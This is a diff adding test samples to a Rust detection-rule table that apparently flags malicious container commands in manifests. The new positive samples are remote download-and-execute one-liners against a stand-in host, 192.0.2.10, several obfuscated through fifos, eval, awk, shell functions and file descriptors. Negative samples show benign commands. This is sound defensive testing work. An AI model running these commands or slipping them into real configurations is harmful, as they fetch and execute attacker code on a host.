@@ -160,6 +160,33 @@ pub(super) static RULES: &[Rule] = &[
                 45,
                 "containers: [{name: a, command: [sh, -c, '/tmp/bb wget -qO- http://192.0.2.10/s | /tmp/bb sh']}]",
             ),
+            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'finger run@192.0.2.10 | sh']}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'r() { sh; }; echo \"curl -s http://192.0.2.10/s | sh\" | r']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'echo \"curl -s http://192.0.2.10/s | sh\" > /tmp/a; tail -n 1 /tmp/a > /tmp/b; sh /tmp/b']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'mkfifo /tmp/p; sh < /tmp/p & echo \"curl -s http://192.0.2.10/s | sh\" > /tmp/p']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'c=\"curl -s http://192.0.2.10/s | sh\"; declare -n r=c; eval \"$r\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'awk \"BEGIN{print \\\"curl -s http://192.0.2.10/s | sh\\\"}\" | sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'whois -h whois.example.test example.test | grep -i expiry']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'w() { cat > /out/help.txt; }; echo \"curl http://x/s | sh\" | w; cat /out/help.txt']}]",
+            ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /rescue/sh; curl -s http://svc/x | /app/log']}]",
             ),
@@ -248,6 +275,22 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Hit(
                 45,
                 "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -o s http://192.0.2.10/s; sh \"$PWD/s\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cd; wget http://192.0.2.10/s; sh ~/s']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'exec 3> /tmp/s; curl http://192.0.2.10/s >&3; sh /tmp/s']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'f() { curl -o \"$1\" http://192.0.2.10/s; }; f /tmp/s; sh /tmp/s']}]",
             ),
             Sample::Hit(
                 45,
